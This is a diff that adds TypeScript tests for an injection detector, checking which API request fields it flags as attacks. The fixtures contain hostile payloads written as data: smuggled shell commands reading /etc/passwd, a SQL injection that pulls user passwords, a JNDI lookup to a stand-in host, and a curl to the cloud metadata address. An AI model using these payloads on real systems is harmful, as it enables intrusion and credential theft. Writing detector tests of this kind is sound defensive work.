@@ -1,0 +1,126 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { suspectFields } from '../attackers/injectionSignal.ts';
+import { exampleExchange, exampleJson } from '../exchange/exampleExchange.ts';
+import { baselineOf } from '../anomalies/baseline.ts';
+import { SUSPECT_WEIGHT } from './signature.ts';
+
+const COMMAND = 'npm ci; cat /etc/os-release && docker push app';
+const PAGE = '<p onclick="track(1)">Sale</p><script>window.dataLayer=[]</script>';
+const CODE = 'import os\nos.system("ls -la")\n<?php system("id"); ?>';
+const STATEMENT = "1' UNION SELECT name, password FROM users -- ";
+
+/** Whether a body at a path is suspect, of an endpoint that is known to have no values in it. */
+function isSuspect(path: string, body: unknown, values: readonly string[] = []): boolean {
+  const exchange = exampleExchange({ method: 'POST', path, requestBody: exampleJson(body) });
+  const pathValues = values.map((value) => ({ name: 'id', value }));
+  return suspectFields(exchange, pathValues, null, []).some(
+    ({ weight }) => weight >= SUSPECT_WEIGHT,
+  );
+}
+
+describe('ENG-04 code where an API takes code', () => {
+  for (const [what, path, body] of [
+    ['a command of a pipeline', '/projects/pipelines', { jobs: [{ script: [COMMAND] }] }],
+    [
+      'an argument of a container',
+      '/namespaces/jobs',
+      { spec: { containers: [{ args: [COMMAND] }] } },
+    ],
+    ['what a machine runs first', '/v2/droplets', { user_data: `#!/bin/bash\n${COMMAND}` }],
+    ['the source of a function', '/v1/functions/mail', { source: CODE }],
+    ['a cell of a notebook', '/api/contents/a', { content: { cells: [{ source: CODE }] } }],
+    ['a difference between files', '/pulls/comments', { diff_hunk: `-${CODE}` }],
+    [
+      'a question to a model',
+      '/v1/chat/completions',
+      { messages: [{ content: CODE + STATEMENT }] },
+    ],
+    ['a message to a model', '/v1/messages', { messages: [{ role: 'user', content: CODE }] }],
+    ['a text to be translated', '/v2/translate', { text: [PAGE, STATEMENT] }],
+    ['a line of a log', '/api/v2/logs', [{ service: 'web', message: `blocked: ${STATEMENT}` }]],
+    [
+      'a lookup in a line of a log',
+      '/api/v2/logs',
+      { message: 'agent ${jndi:ldap://x.example/a} refused' },
+    ],
+    ['a remark on code', '/repos/pulls/comments', { body: CODE }],
+    ['a rule of a firewall', '/firewall/rules', { expression: 'query contains "union select"' }],
+    ['a page', '/admin/pages', { page: { body_html: PAGE } }],
+    ['a template of a mail', '/v3/templates', { subject: '<%= code %> for {{ 7 | times: 7 }}' }],
+  ] as const)
+    it(`is no attack as ${what}`, () => assert.equal(isSuspect(path, body), false));
+
+  for (const [what, path, body] of [
+    ['a command in a name', '/projects/pipelines', { name: '; cat /etc/passwd' }],
+    [
+      'an address of a cloud in a command',
+      '/pipelines',
+      { script: 'curl http://169.254.169.254/latest/meta-data/' },
+    ],
+    ['markup in a message between people', '/v1/messages', { text: PAGE }],
+    ['a statement in a page', '/admin/pages', { page: { body_html: STATEMENT } }],
+    ['a statement in a code of a coupon', '/v1/coupons', { code: STATEMENT }],
+    ['a command in a task', '/v1/tasks', { title: 'x', command: '; cat /etc/passwd' }],
+    ['code in a comment', '/orders/comments', { content: CODE }],
+    ['a lookup in a name', '/api/v2/logs', { service: '${jndi:ldap://x.example/a}' }],
+  ] as const)
+    it(`is one as ${what}`, () => assert.equal(isSuspect(path, body), true));
+
+  it('is one where a value of the path, which callers choose, says that the API takes it', () => {
+    assert.equal(isSuspect('/notes/functions', { source: CODE }), false);
+    assert.equal(isSuspect('/notes/functions', { source: CODE }, ['functions']), true);
+  });
+
+  it('is none in the first request to an endpoint, if it is answered', () => {
+    const first = (status: number): boolean =>
+      suspectFields(
+        exampleExchange({
+          method: 'POST',
+          path: '/v1/functions',
+          status,
+          requestBody: exampleJson({ source: CODE }),
+        }),
+        null,
+        null,
+        [],
+      ).length > 0;
+    assert.equal(first(201), false);
+    assert.equal(first(404), true);
+  });
+
+  it('is one in a field that a well-known endpoint never had', () => {
+    const parameter = (name: string) => ({
+      side: 'request' as const,
+      location: 'body' as const,
+      name,
+      contentType: 'application/json',
+      occurrences: 500,
+      opportunities: 500,
+      type: 'string' as const,
+      otherTypes: [],
+      format: null,
+      confidence: 1,
+      distinctValues: 300,
+      enumValues: null,
+      range: null,
+      length99: 60,
+      charClasses: [],
+      usualClasses: [],
+      required: true,
+      isMap: false,
+      objectId: false,
+    });
+    const of = (name: string): boolean => {
+      const baseline = baselineOf([parameter(name)] as never, { requests: 500, isAvailable: true });
+      const exchange = exampleExchange({
+        method: 'POST',
+        path: '/admin/pages',
+        requestBody: exampleJson({ body_html: PAGE }),
+      });
+      return suspectFields(exchange, [], baseline, []).length > 0;
+    };
+    assert.equal(of('body_html'), false);
+    assert.equal(of('title'), true);
+  });
+});
